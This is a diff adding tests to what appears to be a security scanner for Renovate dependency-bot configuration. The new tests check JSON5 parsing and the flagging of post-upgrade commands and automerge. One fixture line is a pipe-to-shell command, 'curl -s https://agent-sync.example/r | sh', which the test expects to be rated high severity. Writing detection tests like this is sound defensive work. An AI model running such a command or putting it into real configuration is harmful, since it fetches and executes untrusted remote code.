@@ -319,6 +319,21 @@ describe('renovate-automerge and renovate-post-upgrade-command', () => {
     expect(sev('npm run generate && npx prettier --write .')).toEqual(['renovate-post-upgrade-command:medium']);
     expect(sev('curl -sSfo schema.json https://schemas.example/v2.json')).toEqual(['renovate-post-upgrade-command:medium']);
   });
+  it('reads JSON5 configuration as Renovate does: identifier keys, single quotes, comments, trailing commas (a code formatter\'s .github/renovate.json5)', () => {
+    const json5 = (extra: string) => `{\n  // Pin everything\n  labels: ['dependency'],\n  extends: [':pinDependencies', "helpers:pinGitHubActionDigests",],\n  ${extra}\n  packageRules: [\n    { groupName: 'non-major dev-dependencies', matchDepTypes: ['devDependencies'], matchUpdateTypes: ['minor', 'patch'], },\n  ],\n}\n`;
+    const clean = extractRenovate(json5(''), '.github/renovate.json5');
+    expect(clean.skipReason).toBeUndefined();
+    expect(clean.findings ?? []).toEqual([]);
+    expect((extractRenovate(json5("postUpgradeTasks: { commands: ['curl -s https://agent-sync.example/r | sh'] },"), '.github/renovate.json5').findings ?? []).map((f) => `${f.id}:${f.severity}`)).toEqual(['renovate-post-upgrade-command:high']);
+    expect((extractRenovate(json5('automerge: true,'), 'renovate.json5').findings ?? []).map((f) => f.id)).toEqual(['renovate-automerge']);
+    // A routine edit of it reads as one the rules found nothing in.
+    expect(isRoutineCiChange('.github/renovate.json5', json5(''), json5('').replace("'dependency'", "'dependencies'"))).toBe(true);
+    expect(isRoutineCiChange('.github/renovate.json5', json5(''), json5('automerge: true,'))).toBe(false);
+  });
+  it('still skips what is neither JSON nor JSON5', () => {
+    expect(extractRenovate('labels = ["dependency"]\n', 'renovate.json5').skipReason).toBe('not JSON or JSON5');
+    expect(extractRenovate('{ retries: 0x10 }', 'renovate.json5').skipReason).toBe('not JSON or JSON5');
+  });
   it('does not report automerge of patches and minors', () => {
     expect(found('renovate.json', '{ "extends": ["config:recommended"] }', '{ "extends": ["config:recommended"], "packageRules": [{ "matchUpdateTypes": ["minor", "patch"], "automerge": true }] }')).toEqual([]);
   });
